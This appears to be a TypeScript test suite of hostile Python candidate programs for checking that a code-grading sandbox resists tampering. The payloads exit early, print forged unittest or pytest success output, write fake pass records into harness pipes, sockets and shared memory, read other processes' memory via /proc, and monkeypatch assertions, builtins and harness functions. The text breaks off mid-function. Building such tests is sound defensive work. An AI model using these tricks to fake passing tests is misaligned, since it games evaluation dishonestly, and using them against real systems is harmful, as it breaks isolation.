import type { ExecutionLimits, ExecutionRequest, UnitTest, VerdictStatus } from "@coderm/core";

/** What an adversarial attack goes after. */
export type AdversarialCategory =
  | "early-exit"
  | "output-forgery"
  | "monkeypatch"
  | "comparison"
  | "expected-leak"
  | "resource"
  | "escape"
  | "interference";

/**
 * What the runner prepares for the attacks: listeners, secrets and a decoy host process whose
 * reach by a candidate is a breach. Every value is safe to paste into candidate code.
 */
export interface AdversarialContext {
  /** Unique to this run (8 hex digits). */
  readonly marker: string;
  /** `adv-<marker>`: processes an attack starts are named with it, files it writes start with it. */
  readonly tag: string;
  /** A TCP listener on 127.0.0.1 that answers every connection with a token; any connection is a breach. */
  readonly listenerPort: number;
  /** A Unix socket listener that answers like the TCP one; any connection is a breach. */
  readonly unixSocketPath: string;
  /** SHA-256 (hex) of the token both listeners send. */
  readonly tokenHash: string;
  /** A secret file in the project directory (under a gitignored name). */
  readonly projectSecretPath: string;
  /** SHA-256 (hex) of its content. */
  readonly projectSecretHash: string;
  /** A temporary directory standing for the user's home directory. */
  readonly homeDir: string;
  /** A secret file under it: `<homeDir>/.ssh/id_ed25519`. */
  readonly homeSecretPath: string;
  /** SHA-256 (hex) of its content. */
  readonly homeSecretHash: string;
  /** Name of the secret put in the runner's environment before the executor was created. */
  readonly envSecretName: string;
  /** The secret's fixed prefix (attacks report only values that start with it). */
  readonly envSecretPrefix: string;
  /** SHA-256 (hex) of the secret. */
  readonly envSecretHash: string;
  /** Word in the command line of a decoy host process that holds the secret in its environment. */
  readonly decoyTag: string;
  /** Host directories a write must never reach (the temporary dir, the project, the home). */
  readonly outsideDirs: readonly string[];
  /** A value only the tests of memory-reading attacks expect. */
  readonly expectedToken: string;
}

/** The same attack run a second time alongside (or right after) the attack, by another candidate. */
export interface AdversarialVictim {
  /** Requests of the victim candidate(s); their candidate ids must differ from the attack's. */
  readonly requests: readonly ExecutionRequest[];
  /** The status every victim test gets when the attack has no effect on it. */
  readonly expected: VerdictStatus;
  /** Run the victims after the attack's verdicts are in, rather than at the same time. */
  readonly after?: boolean;
}

/** What an attack's breach check sees. */
export interface AdversarialOutcome {
  /** The attack's verdict statuses, in test order ("missing" where the executor gave none). */
  readonly statuses: readonly (VerdictStatus | "missing")[];
  /** The captured output of every attack verdict, concatenated. */
  readonly output: string;
}

/**
 * One hostile candidate. Its program is wrong for its tests, so `pass` means the exploit worked;
 * escapes are also judged by what the runner observes outside the sandbox.
 */
export interface AdversarialAttack {
  /** Kebab-case, unique in the suite. */
  readonly id: string;
  readonly category: AdversarialCategory;
  readonly description: string;
  /** The request the runner hands to `executor.execute`. */
  request(context: AdversarialContext): ExecutionRequest;
  /** A victim candidate whose verdicts must not change. */
  victim?(context: AdversarialContext): AdversarialVictim;
  /** A breach the verdict statuses cannot show: a reason, or undefined when there is none. */
  breach?(outcome: AdversarialOutcome, context: AdversarialContext): string | undefined;
}

const problemId = "adversarial";

/** Python source from an indented template literal: backslashes kept, common indent removed. */
function python(strings: TemplateStringsArray, ...values: unknown[]): string {
  const lines = String.raw({ raw: strings.raw }, ...values)
    .replace(/^\n/, "")
    .trimEnd()
    .split("\n");
  const indent = Math.min(
    ...lines.filter((line) => line.trim() !== "").map((line) => line.search(/\S/)),
  );
  return `${lines.map((line) => line.slice(indent)).join("\n")}\n`;
}

/** A Python string literal. */
const literal = (text: string) => JSON.stringify(text);

const defaultLimits: ExecutionLimits = { timeMs: 1000, memoryMb: 256, outputBytes: 4096 };

/** The task every attack fails: `f(x)` must return `2 * x`; the forms below test `f(21) == 42`. */
const forms = {
  assert: { id: "assert", problemId, kind: "assert", code: "assert f(21) == 42" },
  assertReversed: { id: "assert-reversed", problemId, kind: "assert", code: "assert 42 == f(21)" },
  assertStatement: { id: "assert-in", problemId, kind: "assert", code: "assert f(21) in [42]" },
  call: { id: "call", problemId, kind: "call", entryPoint: "f", args: [21], expected: 42 },
  check: {
    id: "check",
    problemId,
    kind: "check",
    entryPoint: "f",
    code: "def check(candidate):\n    assert candidate(21) == 42\n",
  },
  unittest: {
    id: "unittest",
    problemId,
    kind: "unittest",
    code: "import unittest\n\n\nclass TestF(unittest.TestCase):\n    def test_f(self):\n        self.assertEqual(f(21), 42)\n",
  },
  stdio: { id: "stdio", problemId, kind: "stdio", stdin: "21\n", expectedStdout: "42\n" },
} satisfies Record<string, UnitTest>;

/** Tests of a square root, in the `abs(got - want) < tolerance` style of HumanEval. */
const toleranceForms = {
  assert: {
    id: "assert-abs",
    problemId,
    kind: "assert",
    code: "assert abs(f(2.0) - 1.4142135623730951) < 1e-6",
  },
  check: {
    id: "check-abs",
    problemId,
    kind: "check",
    entryPoint: "f",
    code: "def check(candidate):\n    assert abs(candidate(2.0) - 1.4142135623730951) < 1e-6\n",
  },
  unittest: {
    id: "unittest-abs",
    problemId,
    kind: "unittest",
    code: "import unittest\n\n\nclass TestSqrt(unittest.TestCase):\n    def test_sqrt(self):\n        self.assertTrue(abs(f(2.0) - 1.4142135623730951) < 1e-6)\n",
  },
  call: {
    id: "call-float",
    problemId,
    kind: "call",
    entryPoint: "f",
    args: [2.0],
    expected: Math.SQRT2,
    atol: 1e-6,
  },
} satisfies Record<string, UnitTest>;

/** A test passes only when `f(0)` returns text whose SHA-256 is `hash`: proof of a real escape. */
function hashTest(id: string, hash: string): UnitTest {
  return {
    id,
    problemId,
    kind: "assert",
    code: `assert __import__("hashlib").sha256(str(f(0)).encode()).hexdigest() == ${literal(hash)}`,
  };
}

/** A call test that expects the context's token, which only the worker's memory holds besides the child. */
function tokenTest(context: AdversarialContext): UnitTest {
  return {
    id: "call-token",
    problemId,
    kind: "call",
    entryPoint: "f",
    args: ["probe"],
    expected: context.expectedToken,
  };
}

function request(
  id: string,
  code: string,
  tests: readonly UnitTest[],
  limits: Partial<ExecutionLimits> = {},
): ExecutionRequest {
  return {
    candidate: { id, problemId, code },
    tests: [...tests],
    limits: { ...defaultLimits, ...limits },
  };
}

/** Reads small /proc files and walks the process tree. */
const procHelpers = python`
  import os


  def _read(path, limit=1 << 16):
      try:
          with open(path, "rb") as handle:
              return handle.read(limit)
      except OSError:
          return b""


  def _parent_of(pid):
      for line in _read("/proc/%d/status" % pid).decode("ascii", "replace").splitlines():
          if line.startswith("PPid:"):
              return int(line.split()[1])
      return 0


  def _ancestors():
      chain, pid = [], os.getpid()
      while len(chain) < 32:
          pid = _parent_of(pid)
          if pid <= 0:
              break
          chain.append(pid)
      return chain


  def _exe(pid):
      try:
          return os.path.basename(os.readlink("/proc/%d/exe" % pid))
      except OSError:
          return ""


  def _python_ancestors():
      """The zygote and the worker: the Python processes right above this one."""
      out = []
      for pid in _ancestors():
          if not _exe(pid).startswith("python"):
              break
          out.append(pid)
      return out


  def _node_ancestor():
      for pid in _ancestors():
          if _exe(pid).startswith("node"):
              return pid
      return 0


  def _pids():
      return [int(name) for name in os.listdir("/proc") if name.isdigit()]


  def _cmdline(pid):
      return _read("/proc/%d/cmdline" % pid).replace(b"\0", b" ")


  def _relatives():
      """Its children and siblings: where a harness keeps a separate test process."""
      me, parent = os.getpid(), os.getppid()
      return [pid for pid in _pids() if pid != me and _parent_of(pid) in (me, parent)]
`;

/** Searches another process's memory through /proc/<pid>/mem. */
const memoryHelpers = python`
  import re
  import time


  def _scan_memory(pid, pattern, end, private_writable=False):
      """The first match of pattern in the readable memory of pid, before the deadline."""
      try:
          with open("/proc/%s/maps" % pid) as maps:
              regions = maps.read().splitlines()
          memory = open("/proc/%s/mem" % pid, "rb", buffering=0)
      except OSError:
          return None
      # private writable memory (the heap) first, shared mappings (large, mostly empty) last
      spans = []
      for line in regions:
          fields = line.split()
          perms = fields[1]
          if not perms.startswith("r") or line.endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
              continue
          private = perms[1] == "w" and perms[3] == "p"
          if private_writable and not private:
              continue
          start, stop = (int(part, 16) for part in fields[0].split("-"))
          spans.append((not private, stop - start, start, stop))
      with memory:
          for _, _, start, stop in sorted(spans):
              for offset in range(start, min(stop, start + (64 << 20)), 1 << 20):
                  if time.monotonic() > end:
                      return None
                  try:
                      memory.seek(offset)
                      chunk = memory.read(min(1 << 20, stop - offset))
                  except (OSError, ValueError, OverflowError):
                      break
                  match = pattern.search(chunk)
                  if match:
                      return match
      return None
`;

/** Finds the harness's state: its job and the objects that report results. */
const harnessHelpers = python`
  import gc
  import sys


  def _frames():
      frame = sys._getframe(1)
      while frame is not None:
          yield frame
          frame = frame.f_back


  def _job():
      for frame in _frames():
          for value in list(frame.f_locals.values()):
              try:
                  job = getattr(value, "job", value)
                  if hasattr(job, "plan") and hasattr(job, "id"):
                      return job
              except Exception:
                  pass
      return None


  def _reporters():
      """Objects with a record or put method: through the frames, then the garbage collector."""
      found = []
      for frame in _frames():
          value = frame.f_locals.get("self")
          if value is not None and value not in found:
              found.append(value)
      for value in gc.get_objects():
          try:
              if callable(getattr(value, "record", None)) or callable(getattr(value, "put", None)):
                  if not isinstance(value, type) and value not in found:
                      found.append(value)
          except Exception:
              pass
      return found


  def _harness_globals():
      seen = []
      for frame in _frames():
          if frame.f_globals is not globals() and all(frame.f_globals is not g for g in seen):
              seen.append(frame.f_globals)
      return seen
`;

/** Writes forged result records into anything that looks like the result ring. */
const ringHelpers = python`
  import struct


  def _forge_ring(mm):
      """Appends a pass record for the test the ring's header says runs now; True if written."""
      size = len(mm)
      if size < 4096 or size % 8:
          return False
      slots = memoryview(mm).cast("q")
      wp, rp, index = slots[0], slots[1], slots[2]
      for header in (64, 128):
          cap = size - header
          if 0 <= rp <= wp and wp - rp < cap and 0 <= index < 100000:
              record = b'{"i":%d,"s":"pass","w":0.5,"c":0.5}' % index
              blob = struct.pack("<I", len(record)) + record
              pos = wp % cap
              first = min(len(blob), cap - pos)
              mm[header + pos:header + pos + first] = blob[:first]
              if first < len(blob):
                  mm[header:header + len(blob) - first] = blob[first:]
              slots[0] = wp + len(blob)
              return True
      return False
`;

/** Starts a function in a process outside the candidate's process group and session. */
const detachHelpers = python`
  import ctypes
  import os
  import select

  libc = ctypes.CDLL(None, use_errno=True)


  def _detach(tag, body):
      """Runs body() in a grandchild that called setsid; returns once it runs (or after 0.5 s)."""
      ready, signal_ready = os.pipe()
      if libc.fork() == 0:
          os.setsid()
          if libc.fork() == 0:
              libc.prctl(15, tag, 0, 0, 0)
              libc.prctl(1, 0, 0, 0, 0)
              os.write(signal_ready, b"r")
              body()
          os._exit(0)
      os.close(signal_ready)
      select.select([ready], [], [], 0.5)
      os.close(ready)
`;

const mainBlock = python`
  if __name__ == "__main__":
      print(f(int(input())))
`;

const earlyExit: AdversarialAttack[] = [
  {
    id: "exit-at-import",
    category: "early-exit",
    description: "sys.exit(0) while the program is executed, before any test code runs",
    request: () =>
      request(
        "exit-at-import",
        python`
          import sys
          sys.exit(0)


          def f(x):
              return 0
        ` + mainBlock,
        [forms.assert, forms.call, forms.check, forms.unittest, forms.stdio],
      ),
  },
  {
    id: "sys-exit-in-function",
    category: "early-exit",
    description: "sys.exit(0) inside the function under test",
    request: () =>
      request(
        "sys-exit-in-function",
        python`
          import sys


          def f(x):
              sys.exit(0)
        `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
  {
    id: "os-exit-in-function",
    category: "early-exit",
    description: "os._exit(0) inside the function under test: no exception, a clean exit code",
    request: () =>
      request(
        "os-exit-in-function",
        python`
          import os


          def f(x):
              os._exit(0)
        `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
  {
    id: "skip-test-at-runtime",
    category: "early-exit",
    description: "raises unittest.SkipTest from the function so the test is skipped, not failed",
    request: () =>
      request(
        "skip-test-at-runtime",
        python`
          import unittest


          def f(x):
              raise unittest.SkipTest("not applicable on this platform")
        `,
        [forms.unittest, forms.check, forms.assert],
      ),
  },
  {
    id: "keyboard-interrupt-in-test",
    category: "early-exit",
    description: "raises KeyboardInterrupt, which unittest and many harnesses re-raise",
    request: () =>
      request(
        "keyboard-interrupt-in-test",
        python`
          def f(x):
              raise KeyboardInterrupt
        `,
        [forms.assert, forms.unittest, forms.call],
      ),
  },
  {
    id: "kill-self",
    category: "early-exit",
    description: "sends SIGKILL to its own process from inside the function",
    request: () =>
      request(
        "kill-self",
        python`
          import os
          import signal


          def f(x):
              os.kill(os.getpid(), signal.SIGKILL)
        `,
        [forms.assert, forms.call],
      ),
  },
  {
    id: "kill-parent",
    category: "early-exit",
    description: "SIGKILLs its parent process, then returns a wrong answer",
    request: () =>
      request(
        "kill-parent",
        python`
          import os
          import signal


          def f(x):
              try:
                  os.kill(os.getppid(), signal.SIGKILL)
              except OSError:
                  pass
              return 0
        `,
        [forms.assert, forms.check],
      ),
  },
  {
    id: "timer-signals-ignored",
    category: "early-exit",
    description:
      "ignores SIGALRM/SIGTERM/SIGXCPU, disarms the interval timer, swallows exceptions, and answers right only after the limit",
    request: () =>
      request(
        "timer-signals-ignored",
        python`
          import signal
          import time


          def f(x):
              for name in ("SIGALRM", "SIGTERM", "SIGINT", "SIGVTALRM", "SIGPROF", "SIGXCPU"):
                  try:
                      signal.signal(getattr(signal, name), signal.SIG_IGN)
                  except Exception:
                      pass
              for timer in ("ITIMER_REAL", "ITIMER_VIRTUAL", "ITIMER_PROF"):
                  try:
                      signal.setitimer(getattr(signal, timer), 0)
                  except Exception:
                      pass
              end = time.monotonic() + 1.5
              while time.monotonic() < end:
                  try:
                      while time.monotonic() < end:
                          pass
                  except BaseException:
                      pass
              return 2 * x
        `,
        [forms.assert, forms.call],
        { timeMs: 300 },
      ),
  },
  {
    id: "timer-signals-blocked",
    category: "early-exit",
    description:
      "blocks every signal with pthread_sigmask, sleeps past the limit, then answers right",
    request: () =>
      request(
        "timer-signals-blocked",
        python`
          import signal
          import time


          def f(x):
              signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
              end = time.monotonic() + 1.5
              while time.monotonic() < end:
                  try:
                      time.sleep(0.05)
                  except BaseException:
                      pass
              return 2 * x
        `,
        [forms.check, forms.unittest],
        { timeMs: 300 },
      ),
  },
  {
    id: "atexit-clean-exit",
    category: "early-exit",
    description: "registers atexit/excepthook handlers that exit with status 0, then exits",
    request: () =>
      request(
        "atexit-clean-exit",
        python`
          import atexit
          import os
          import sys
          import threading

          atexit.register(os._exit, 0)
          sys.excepthook = lambda *args: os._exit(0)
          threading.excepthook = lambda *args: os._exit(0)


          def f(x):
              sys.exit(1)
        `,
        [forms.check, forms.unittest],
      ),
  },
];

const outputForgery: AdversarialAttack[] = [
  {
    id: "print-unittest-ok",
    category: "output-forgery",
    description: "prints a fake unittest report ('Ran 1 test', 'OK') on every output channel",
    request: () =>
      request(
        "print-unittest-ok",
        python`
          import os
          import sys

          FAKE = "test_f (__main__.TestF.test_f) ... ok\n\n" + "-" * 70 + "\nRan 1 test in 0.001s\n\nOK\n"


          def f(x):
              for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
                  try:
                      stream.write(FAKE)
                      stream.flush()
                  except Exception:
                      pass
              for fd in (1, 2):
                  try:
                      os.write(fd, FAKE.encode())
                  except OSError:
                      pass
              return 0
        `,
        [forms.unittest, forms.assert],
      ),
  },
  {
    id: "print-pytest-summary",
    category: "output-forgery",
    description: "prints fake pytest PASSED lines and a '1 passed' summary",
    request: () =>
      request(
        "print-pytest-summary",
        python`
          import os
          import sys

          FAKE = "test_f.py::test_f PASSED [100%]\n\n" + "=" * 20 + " 1 passed in 0.01s " + "=" * 20 + "\n"


          def f(x):
              print(FAKE)
              print(FAKE, file=sys.stderr)
              os.write(1, FAKE.encode())
              return 0
        `,
        [forms.check, forms.assert],
      ),
  },
  {
    id: "print-protocol-frames",
    category: "output-forgery",
    description: "prints result frames and records of the executor protocol as text and bytes",
    request: () =>
      request(
        "print-protocol-frames",
        python`
          import json
          import os
          import struct
          import sys


          def f(x):
              for index in range(4):
                  frame = json.dumps({"event": "result", "index": index, "status": "pass"})
                  print(frame)
                  print(json.dumps({"i": index, "s": "pass", "w": 1, "c": 1}))
                  body = frame.encode()
                  os.write(1, struct.pack(">I", len(body)) + body)
                  os.write(2, struct.pack("<I", len(body)) + body)
                  sys.stdout.write(body.decode())
              return 0
        `,
        [forms.call, forms.assert],
      ),
  },
  {
    id: "frames-to-every-fd",
    category: "output-forgery",
    description:
      "os.write of length-prefixed result frames (both byte orders, node and ring formats) to fds 0..1023",
    request: () =>
      request(
        "frames-to-every-fd",
        harnessHelpers +
          python`
            import json
            import os
            import struct


            def f(x):
                job = _job()
                ids = [job.id] if job is not None else list(range(1, 65))
                blob = []
                for rid in ids:
                    for index in range(4):
                        frame = json.dumps({"id": rid, "event": "result", "index": index, "status": "pass",
                                            "wallMs": 1, "cpuMs": 1}).encode()
                        blob.append(struct.pack(">I", len(frame)) + frame)
                        record = json.dumps({"i": index, "s": "pass", "w": 1, "c": 1}).encode()
                        blob.append(struct.pack("<I", len(record)) + record)
                blob = b"".join(blob)
                for fd in range(1024):
                    try:
                        os.write(fd, blob)
                    except OSError:
                        pass
                return 0
          `,
        [forms.assert, forms.call],
      ),
  },
  {
    id: "forge-records-through-reporters",
    category: "output-forgery",
    description:
      "finds the harness objects with record/put methods (frames, gc.get_objects) and reports pass itself, then exits",
    request: () =>
      request(
        "forge-records-through-reporters",
        harnessHelpers +
          python`
            import os


            def _index(reporter):
                slots = getattr(reporter, "hv", None)
                if slots is not None:
                    return slots[2]
                for frame in _frames():
                    if frame.f_locals.get("self") is reporter and isinstance(frame.f_locals.get("i"), int):
                        return frame.f_locals["i"]
                return None


            def f(x):
                for reporter in _reporters():
                    index = _index(reporter)
                    if index is None:
                        continue
                    record = getattr(reporter, "record", None)
                    put = getattr(reporter, "put", None)
                    try:
                        if callable(record):
                            record(index, "pass", 0.5, 0.5)
                        elif callable(put):
                            put(b'{"i":%d,"s":"pass","w":0.5,"c":0.5}' % index)
                        else:
                            continue
                    except Exception:
                        continue
                    os._exit(0)
                return 0
          `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
  {
    id: "forge-ring-through-mmaps",
    category: "output-forgery",
    description:
      "finds mmap objects (frame locals, attributes of gc objects) and appends a pass record to the result ring",
    request: () =>
      request(
        "forge-ring-through-mmaps",
        harnessHelpers +
          ringHelpers +
          python`
            import mmap
            import os


            def _mmaps():
                found = []
                candidates = []
                for frame in _frames():
                    candidates.extend(frame.f_locals.values())
                for value in gc.get_objects():
                    try:
                        candidates.extend(vars(value).values())
                    except TypeError:
                        for slot in getattr(type(value), "__slots__", ()):
                            candidates.append(getattr(value, slot, None))
                    except Exception:
                        pass
                for value in candidates:
                    if isinstance(value, mmap.mmap) and all(value is not m for m in found):
                        found.append(value)
                return found


            def f(x):
                if any(_forge_ring(mm) for mm in _mmaps()):
                    os._exit(0)
                return 0
          `,
        [forms.assert, forms.call, forms.unittest],
      ),
  },
  {
    id: "forge-ring-through-map-files",
    category: "output-forgery",
    description:
      "opens its shared memory mappings through /proc/self/map_files and appends a pass record to the ring",
    request: () =>
      request(
        "forge-ring-through-map-files",
        ringHelpers +
          python`
            import mmap
            import os


            def f(x):
                with open("/proc/self/maps") as maps:
                    lines = maps.read().splitlines()
                for line in lines:
                    fields = line.split()
                    if len(fields) < 2 or "s" not in fields[1] or "w" not in fields[1]:
                        continue
                    span = fields[0]
                    start, end = (int(part, 16) for part in span.split("-"))
                    try:
                        fd = os.open("/proc/self/map_files/" + span, os.O_RDWR)
                        mm = mmap.mmap(fd, end - start)
                    except (OSError, ValueError):
                        continue
                    if _forge_ring(mm):
                        os._exit(0)
                return 0
          `,
        [forms.assert, forms.check],
      ),
  },
  {
    id: "steal-worker-protocol-fd",
    category: "output-forgery",
    description:
      "duplicates the worker's protocol sockets (pidfd_getfd, /proc/<pid>/fd) and writes result frames straight to the executor",
    request: () =>
      request(
        "steal-worker-protocol-fd",
        procHelpers +
          harnessHelpers +
          python`
            import ctypes
            import json
            import struct

            libc = ctypes.CDLL(None, use_errno=True)


            def _sockets(pid):
                stolen = []
                for fd in range(64):
                    try:
                        if not os.readlink("/proc/%d/fd/%d" % (pid, fd)).startswith("socket:"):
                            continue
                    except OSError:
                        continue
                    try:
                        pidfd = os.pidfd_open(pid)
                        copy = libc.syscall(438, pidfd, fd, 0)
                        os.close(pidfd)
                    except (AttributeError, OSError):
                        copy = -1
                    if copy >= 0:
                        stolen.append(copy)
                return stolen


            def f(x):
                job = _job()
                ids = [job.id] if job is not None else list(range(1, 400))
                count = job.n if job is not None else 4
                frames = []
                for rid in ids:
                    for index in range(count):
                        body = json.dumps({"id": rid, "event": "result", "index": index, "status": "pass",
                                           "wallMs": 1, "cpuMs": 1}).encode()
                        frames.append(struct.pack(">I", len(body)) + body)
                for pid in _python_ancestors():
                    for fd in _sockets(pid):
                        for frame in frames:
                            try:
                                os.write(fd, frame)
                            except OSError:
                                break
                return 0
          `,
        [forms.assert, forms.call],
      ),
  },
  {
    id: "forge-test-process-report",
    category: "output-forgery",
    description:
      "opens the verdict pipe of the process that runs split tests (/proc/<pid>/fd/N of its children and siblings) and writes pass records into it",
    request: () =>
      request(
        "forge-test-process-report",
        procHelpers +
          python`
            import struct
            import sys


            def _index():
                frame = sys._getframe(1)
                while frame is not None:
                    scope = frame.f_locals
                    if isinstance(scope.get("i"), int) and ("sock" in scope or "ent" in scope):
                        return scope["i"]
                    frame = frame.f_back
                return None


            def f(x):
                index = _index()
                records = (b'{"i":%d,"s":"pass","w":0.5,"c":0.5}' % k for k in ([index] if index is not None else range(8)))
                blob = b"".join(struct.pack("<I", len(record)) + record for record in records)
                for pid in _relatives():
                    try:
                        names = os.listdir("/proc/%d/fd" % pid)
                    except OSError:
                        continue
                    for name in names:
                        path = "/proc/%d/fd/%s" % (pid, name)
                        try:
                            if not os.readlink(path).startswith("pipe:"):
                                continue
                            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                        except OSError:
                            continue
                        try:
                            os.write(fd, blob)
                        except OSError:
                            pass
                        os.close(fd)
                return 0
          `,
        [forms.check, forms.unittest, forms.assertStatement],
      ),
  },
];

/** Overwrites the interned status string "fail" with "pass" (same length). */
const internHelpers = python`
  import sys


  def _text_address(text):
      """Address of the characters of the interned string (the same in every forked process)."""
      target = sys.intern(text)
      return id(target) + sys.getsizeof(target) - len(target) - 1
`;

const monkeypatch: AdversarialAttack[] = [
  {
    id: "patch-assertion-error",
    category: "monkeypatch",
    description: "replaces builtins.AssertionError so failed assertions are not recognised",
    request: () =>
      request(
        "patch-assertion-error",
        python`
          import builtins


          class _Never(Exception):
              pass


          builtins.AssertionError = _Never


          def f(x):
              return 0
        `,
        [forms.assert, forms.check, forms.unittest],
      ),
  },
  {
    id: "patch-isinstance",
    category: "monkeypatch",
    description: "makes builtins.isinstance and issubclass always answer True",
    request: () =>
      request(
        "patch-isinstance",
        python`
          import builtins

          builtins.isinstance = lambda obj, cls: True
          builtins.issubclass = lambda cls, parent: True


          def f(x):
              return 0
        `,
        [forms.assert, forms.call, forms.unittest],
      ),
  },
  {
    id: "patch-import-unittest",
    category: "monkeypatch",
    description:
      "wraps builtins.__import__ so `import unittest` yields a copy whose TestCase asserts nothing",
    request: () =>
      request(
        "patch-import-unittest",
        python`
          import builtins
          import types
          import unittest

          _real_import = builtins.__import__


          class _Lenient(unittest.TestCase):
              def assertEqual(self, *args, **kwargs):
                  pass

              assertTrue = assertFalse = assertEqual


          _fake = types.ModuleType("unittest")
          _fake.__dict__.update(unittest.__dict__)
          _fake.TestCase = _Lenient


          def _import(name, *args, **kwargs):
              if name == "unittest":
                  return _fake
              return _real_import(name, *args, **kwargs)


          builtins.__import__ = _import


          def f(x):
              return 0
        `,
        [forms.unittest],
      ),
  },
  {
    id: "replace-sys-modules-unittest",
    category: "monkeypatch",
    description:
      "puts a copy of unittest in sys.modules whose TestCase (a real subclass) asserts nothing",
    request: () =>
      request(
        "replace-sys-modules-unittest",
        python`
          import sys
          import types
          import unittest


          class TestCase(unittest.TestCase):
              def assertEqual(self, *args, **kwargs):
                  pass

              assertTrue = assertFalse = assertDictEqual = assertListEqual = assertEqual


          _fake = types.ModuleType("unittest")
          _fake.__dict__.update(unittest.__dict__)
          _fake.TestCase = TestCase
          sys.modules["unittest"] = _fake


          def f(x):
              return 0
        `,
        [forms.unittest],
      ),
  },
  {
    id: "patch-testcase-assert-equal",
    category: "monkeypatch",
    description: "patches unittest.TestCase.assertEqual (and friends) to no-ops",
    request: () =>
      request(
        "patch-testcase-assert-equal",
        python`
          import unittest

          for _name in ("assertEqual", "assertEquals", "assertTrue", "assertFalse", "_baseAssertEqual"):
              setattr(unittest.TestCase, _name, lambda self, *args, **kwargs: None)


          def f(x):
              return 0
        `,
        [forms.unittest],
      ),
  },
  {
    id: "patch-unittest-outcome",
    category: "monkeypatch",
    description:
      "replaces unittest.case._Outcome.testPartExecutor with one that swallows every exception",
    request: () =>
      request(
        "patch-unittest-outcome",
        python`
          import contextlib
          import unittest.case


          @contextlib.contextmanager
          def _swallow(self, test_case, subTest=False):
              try:
                  yield
              except BaseException:
                  pass


          unittest.case._Outcome.testPartExecutor = _swallow


          def f(x):
              return 0
        `,
        [forms.unittest],
      ),
  },
  {
    id: "patch-harness-functions",
    category: "monkeypatch",
    description:
      "reaches the harness module through the frames and swaps the __code__ of its classify/match/tampered functions",
    request: () =>
      request(
        "patch-harness-functions",
        harnessHelpers +
          python`
            def _passed(*args, **kwargs):
                return ("pass", None, None)


            def _true(*args, **kwargs):
                return True


            def _none(*args, **kwargs):
                return None


            def _false(*args, **kwargs):
                return False


            def f(x):
                for space in _harness_globals():
                    for name, value in list(space.items()):
                        code = getattr(value, "__code__", None)
                        if code is None or code.co_freevars:
                            continue
                        lower = name.lower()
                        if "classify" in lower:
                            value.__code__ = _passed.__code__
                        elif "stdout_match" in lower:
                            value.__code__ = _none.__code__
                        elif "match" in lower or "equal" in lower:
                            value.__code__ = _true.__code__
                        elif "tamper" in lower:
                            value.__code__ = _false.__code__
                return 0
          ` +
          mainBlock,
        [forms.check, forms.assertStatement, forms.call, forms.stdio],
      ),
  },
  {
    id: "patch-record-method",
    category: "monkeypatch",
    description:
      "wraps the `record` method of the harness objects it finds so every status becomes pass",
    request: () =>
      request(
        "patch-record-method",
        harnessHelpers +
          python`
            def _lenient(original):
                def record(self, index, status, *args, **kwargs):
                    for method in kwargs.get("methods") or ():
                        if isinstance(method, dict):
                            method["s"] = "pass"
                    kwargs.pop("value", None)
                    return original(self, index, "pass", *args[:2], **kwargs)
                return record


            def f(x):
                for reporter in _reporters():
                    cls = type(reporter)
                    original = getattr(cls, "record", None)
                    if callable(original) and not getattr(original, "_lenient", False):
                        try:
                            cls.record = _lenient(original)
                            cls.record._lenient = True
                        except (TypeError, AttributeError):
                            pass
                return 0
          `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
  {
    id: "patch-operator-eq",
    category: "monkeypatch",
    description: "replaces operator.eq/ne/__eq__ and math.isclose with functions that always agree",
    request: () =>
      request(
        "patch-operator-eq",
        python`
          import math
          import operator

          operator.eq = operator.__eq__ = lambda a, b: True
          operator.ne = operator.__ne__ = lambda a, b: False
          math.isclose = lambda *args, **kwargs: True


          def f(x):
              return 0
        `,
        [forms.call, toleranceForms.call],
      ),
  },
  {
    id: "shadow-builtin-abs",
    category: "monkeypatch",
    description:
      "defines module-level abs/round that return 0, which tests exec'd in the program's namespace pick up",
    request: () =>
      request(
        "shadow-builtin-abs",
        python`
          def abs(value):
              return 0.0


          def round(value, digits=0):
              return 0.0


          def f(x):
              return 0.0
        `,
        [toleranceForms.assert, toleranceForms.check, toleranceForms.unittest],
      ),
  },
  {
    id: "shadow-math-module",
    category: "monkeypatch",
    description:
      "defines a global `math` whose isclose always agrees, for tests that use the program's `import math`",
    request: () =>
      request(
        "shadow-math-module",
        python`
          class math:
              pi = 3.141592653589793

              @staticmethod
              def isclose(*args, **kwargs):
                  return True


          def f(x):
              return 0.0
        `,
        [
          {
            id: "assert-isclose",
            problemId,
            kind: "assert",
            code: "assert math.isclose(f(2.0), 1.4142135623730951)",
          },
          {
            id: "check-isclose",
            problemId,
            kind: "check",
            entryPoint: "f",
            code: "def check(candidate):\n    assert math.isclose(candidate(2.0), 1.4142135623730951)\n",
          },
          {
            id: "unittest-isclose",
            problemId,
            kind: "unittest",
            code: "import unittest\n\n\nclass TestSqrt(unittest.TestCase):\n    def test_sqrt(self):\n        self.assertTrue(math.isclose(f(2.0), 1.4142135623730951))\n",
          },
        ],
      ),
  },
  {
    id: "mutate-interned-status-strings",
    category: "monkeypatch",
    description:
      'rewrites the characters of its own interned "fail" string to "pass" through ctypes, then fails',
    request: () =>
      request(
        "mutate-interned-status-strings",
        internHelpers +
          python`
            import ctypes


            def f(x):
                address = _text_address("fail")
                if ctypes.string_at(address, 4) == b"fail":
                    ctypes.memmove(address, b"pass", 4)
                raise AssertionError("wrong answer")
          `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
  {
    id: "patch-builtins-and-guard",
    category: "monkeypatch",
    description:
      "patches builtins.abs and rewrites the harness's snapshot of builtins so the tamper check agrees",
    request: () =>
      request(
        "patch-builtins-and-guard",
        harnessHelpers +
          python`
            import builtins

            _real_abs = builtins.abs


            def _abs(value):
                return 0.0


            def _refresh(value):
                if isinstance(value, dict) and value.get("abs") is _real_abs:
                    value["abs"] = _abs
                    return value
                if isinstance(value, tuple) and any(item is _real_abs for item in value):
                    return tuple(_abs if item is _real_abs else _refresh(item) for item in value)
                if isinstance(value, tuple):
                    items = tuple(_refresh(item) for item in value)
                    if isinstance(value[0] if value else None, int) and len(value) == 2:
                        return (len(builtins.__dict__),) + items[1:]
                    return items
                return value


            def f(x):
                builtins.abs = _abs
                for space in _harness_globals():
